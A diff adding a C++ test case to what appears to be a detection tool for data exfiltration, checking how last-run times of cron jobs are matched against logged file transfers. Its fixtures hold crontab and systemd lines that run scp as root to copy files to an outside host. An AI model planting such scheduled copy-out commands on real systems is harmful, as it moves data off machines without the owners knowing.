@@ -737,6 +737,33 @@ TEST_CASE("registered: sessions tell of a line where each that was due had one")
   CHECK(ran({kDue - 59000, kDue + 1000, kDue + 1001, kDue + 61000}) == kDue + 1000);
 }
 
+TEST_CASE("registered: a session whose program is in the log is of the line that sent then") {
+  const Image image(Files{{"/etc/debian_version", "12\n"},
+                          {"/etc/timezone", "Etc/UTC\n"},
+                          {"/etc/crontab", "2 1 * * * root scp /a b@192.0.2.1:x\n"}});
+  const Matcher matcher(collect(image));
+  constexpr audit::TimeMs kDay = 86'400'000;
+  constexpr audit::TimeMs kDue = 1796173320000;  // 01:02:00
+  coverage::SeenJob session;
+  session.kind = "cron";
+  session.user = "root";
+  session.starts = 2;
+  session.times = {kDue, kDue + kDay};
+  session.last = kDue + kDay;
+  const std::vector jobs{session};
+  const auto ran = [&](bool has_programs, std::map<std::string, audit::TimeMs> transfers) {
+    auto found = find_registered(matcher.inventory(), image, auexfil::test::rules().tools);
+    find_last_runs(found, matcher, image,
+                   {jobs, 0, 0, nullptr, {}, has_programs, std::move(transfers)});
+    return found.at(0).last_run.value_or(0);
+  };
+  CHECK(ran(false, {}) == kDue + kDay);
+  CHECK(ran(true, {}) == 0);
+  CHECK(ran(true, {{"/etc/cron.d/y:1", kDue + kDay + 9000}}) == 0);
+  CHECK(ran(true, {{"/etc/crontab:1", kDue + kDay + 9000}}) == kDue + kDay);
+  CHECK(ran(true, {{"/etc/crontab:1", kDue + 9000}}) == kDue);
+}
+
 TEST_CASE("registered: what is said of a unit by others than process 1 is not heard") {
   const Image image(Files{
       {"/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/scp /e b@192.0.2.1:x\n"}});
